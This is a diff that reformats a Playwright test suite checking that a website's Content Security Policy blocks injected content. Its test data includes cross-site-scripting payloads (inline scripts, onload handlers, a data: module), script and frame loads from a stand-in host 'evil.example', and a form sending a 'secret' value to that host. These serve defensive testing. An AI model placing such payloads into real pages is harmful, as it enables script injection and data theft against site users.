@@ -5,7 +5,11 @@ import { expect, test, type Page } from '@playwright/test';
 const INTRUDERS = [
   ['a script', '<script>taken = "script"</script>', 'script-src-elem'],
   ['a script of another host', '<script src="https://evil.example/a.js"></script>', 'script-src-elem'],
-  ['a module in the address', '<script type="module" src="data:text/javascript,globalThis.taken=1"></script>', 'script-src-elem'],
+  [
+    'a module in the address',
+    '<script type="module" src="data:text/javascript,globalThis.taken=1"></script>',
+    'script-src-elem',
+  ],
   ['a handler', '<img src="/favicon.svg" onload="taken = 1">', 'script-src-attr'],
   ['a handler of a drawing', '<svg onload="taken = 1"></svg>', 'script-src-attr'],
   ['a frame of another host', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
@@ -33,7 +37,10 @@ test('a link that would run a script runs none', async ({ page }) => {
 });
 
 test('a form that would send words to another host sends none', async ({ page }) => {
-  await withMarkup(page, '<form id="intruder" action="https://evil.example/"><input name="word" value="secret"></form>');
+  await withMarkup(
+    page,
+    '<form id="intruder" action="https://evil.example/"><input name="word" value="secret"></form>',
+  );
   await page.locator('#intruder').evaluate((form) => (form as HTMLFormElement).submit());
   await expect.poll(() => violations(page)).toContain('form-action');
   expect(page.url()).toContain('/en/glossary/');
@@ -49,21 +56,35 @@ for (const [what, script] of [
   ['a rule of its own for all this', 'trustedTypes.createPolicy("other", { createHTML: (html) => html })'],
 ] as const)
   test(`even a script of this site makes no ${what} of text`, async ({ page }) => {
-    await page.route('**/_assets/*.js', (route) => route.fulfill({ contentType: 'text/javascript', body: `try { ${script}; globalThis.done = true } catch (error) { globalThis.refused = error.name }` }));
+    await page.route('**/_assets/*.js', (route) =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        body: `try { ${script}; globalThis.done = true } catch (error) { globalThis.refused = error.name }`,
+      }),
+    );
     await page.goto('/en/glossary/');
-    await expect.poll(() => page.evaluate(() => Reflect.get(globalThis, 'refused') as unknown)).toMatch(/^(?:TypeError|EvalError)$/);
+    await expect
+      .poll(() => page.evaluate(() => Reflect.get(globalThis, 'refused') as unknown))
+      .toMatch(/^(?:TypeError|EvalError)$/);
     expect(await taken(page)).toBeUndefined();
   });
 
 test('no other site shows a page of this one in a frame', async ({ page, baseURL }) => {
   const told: string[] = [];
   page.on('console', (message) => told.push(message.text()));
-  const other = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${baseURL ?? ''}en/"></iframe>`));
+  const other = createServer((_, response) =>
+    response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${baseURL ?? ''}en/"></iframe>`),
+  );
   await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
   const bound = other.address();
   await page.goto(`http://127.0.0.1:${typeof bound === 'object' && bound !== null ? bound.port : 0}/`);
   await expect.poll(() => told.join()).toMatch(/frame-ancestors|X-Frame-Options/);
-  expect(page.frames().slice(1).map((frame) => frame.url())).toEqual(['chrome-error://chromewebdata/']);
+  expect(
+    page
+      .frames()
+      .slice(1)
+      .map((frame) => frame.url()),
+  ).toEqual(['chrome-error://chromewebdata/']);
   other.close();
 });
 
@@ -73,7 +94,9 @@ test.use({ baseURL: process.env['LIBRARY_ADDRESS'] ?? '' });
 async function withMarkup(page: Page, markup: string): Promise<void> {
   await page.addInitScript(() => {
     Reflect.set(globalThis, 'violations', []);
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => (Reflect.get(globalThis, 'violations') as string[]).push(effectiveDirective));
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      (Reflect.get(globalThis, 'violations') as string[]).push(effectiveDirective),
+    );
   });
   await page.route('**/en/glossary/', async (route) => {
     const response = await route.fetch();
